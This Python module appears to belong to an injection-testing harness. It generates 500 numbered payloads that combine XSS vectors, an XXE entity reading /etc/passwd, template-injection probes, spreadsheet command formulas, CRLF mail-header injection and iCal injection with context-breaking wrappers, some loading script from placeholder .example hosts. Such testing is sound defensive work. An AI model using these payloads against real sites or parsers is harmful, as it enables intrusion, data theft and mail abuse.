"""The five hundred payloads. Whatever one of them manages to make carries its mark, so it can be told from the page."""

import re
from itertools import product

MARK = re.compile(r"kpssx(\d{3})", re.IGNORECASE)
COUNT = 500

# "§" is the mark with a number. What runs sets a variable that a browser can be asked for.
CORES = [
    "<kpssx§>",
    "<script kpssx§>kpssX=1</script>",
    "<ScRiPt kpssx§ src=//kpssx§.example>",
    "<img kpssx§ src=x onerror=kpssX=1>",
    "<svg kpssx§ onload=kpssX=1>",
    "<svg/kpssx§><script>kpssX=1</script></svg>",
    "<math kpssx§><mtext><style><img src onerror=kpssX=1>",
    "<body kpssx§ onload=kpssX=1>",
    "<iframe kpssx§ srcdoc='<script>parent.kpssX=1</script>'>",
    "<a kpssx§ href='javascript:kpssX=1'>x</a>",
    "<a kpssx§ href='&#106;avascript:kpssX=1'>x</a>",
    "<form kpssx§ action='javascript:kpssX=1'><button>x",
    "<input kpssx§ autofocus onfocus=kpssX=1>",
    "<details kpssx§ open ontoggle=kpssX=1>",
    "<meta kpssx§ http-equiv=refresh content='0;url=//kpssx§.example'>",
    "<base kpssx§ href='//kpssx§.example/'>",
    "<link kpssx§ rel=stylesheet href='//kpssx§.example'>",
    "<style kpssx§>@import '//kpssx§.example'</style>",
    "<object kpssx§ data='data:text/html,<script>kpssX=1</script>'>",
    "<template kpssx§><b>",
    "<!--kpssx§--><!DOCTYPE kpssx§>",
    "<?kpssx§ kpssX=1 ?>",
    "<![CDATA[<kpssx§>]]>",
    "<!ENTITY kpssx§ SYSTEM 'file:///etc/passwd'>&kpssx§;",
    "&lt;kpssx§&gt;&#60;kpssx§&#62;",
    "\uff1cscript kpssx§\uff1ekpssX=1\uff1c/script\uff1e",
    "\u202e<kpssx§>\u202c\u200b\ufeff",
    "<kp\u200bss kpssx§ x='\u2028'>\u2029",
    "\x0b\x0c\x1f<kpssx§>\x7f\x85",
    "{{kpssx§|safe}}{{7*7}}",
    "{%kpssx§%}{% debug %}",
    "{#kpssx§#}${7*7}#{7*7}<%=7*7%>",
    "%(kpssx§)s%s%n{kpssx§}{0}",
    "[x](javascript:kpssx§)",
    "[x](data:text/html,kpssx§)",
    "![x](kpssx§://x)",
    "[x]: <kpssx§:x> 'y'\n[x]",
    "<kpssx§:kpssx§@example.cz>",
    "`</code><kpssx§>`\n\n    </pre><kpssx§>",
    "# x <kpssx§>\n\n<div kpssx§>\n\n***",
    "=HYPERLINK(\"http://kpssx§.example\",\"x\")",
    "+cmd|' /C kpssx§'!A0",
    "-2+3+kpssx§",
    "@SUM(kpssx§)",
    "\t=kpssx§",
    "x\r\nX-Kpssx§: 1\r\nBcc: kpssx§@example.cz",
    "x\nEND:VEVENT\nX-KPSSX§:1\nBEGIN:VEVENT",
    "x;X-KPSSX§=\"1\":kpssx§,\\n\\",
    "\"onmouseover=kpssX=1 kpssx§=\"",
    "' onfocus='kpssX=1' kpssx§='",
]  # fmt: skip
# What each of them is wrapped in, to get out of the place where it stands.
WRAPS = [
    "{}",
    '">{}',
    "'>{}",
    "-->{}<!--",
    "</textarea></title></script></style></noscript>{}",
    '"}}]</script>{}',
    "]]>{}",
    "[[{}]]",
    "\\\\'\"`;kpssX=1//{}",
    "</p></td></tr></table></select></a>{}",
]
# Where no payload fits.
SHORT = "<b kpssx000>"


def payload(number: int) -> str:
    """The payload of that number, from 1 to ``COUNT``."""
    core, wrap = PAIRS[number - 1]
    return wrap.format(core).replace("§", f"{number:03}")


PAIRS = [(core, wrap) for wrap, core in product(WRAPS, CORES)]
assert len(PAIRS) == COUNT
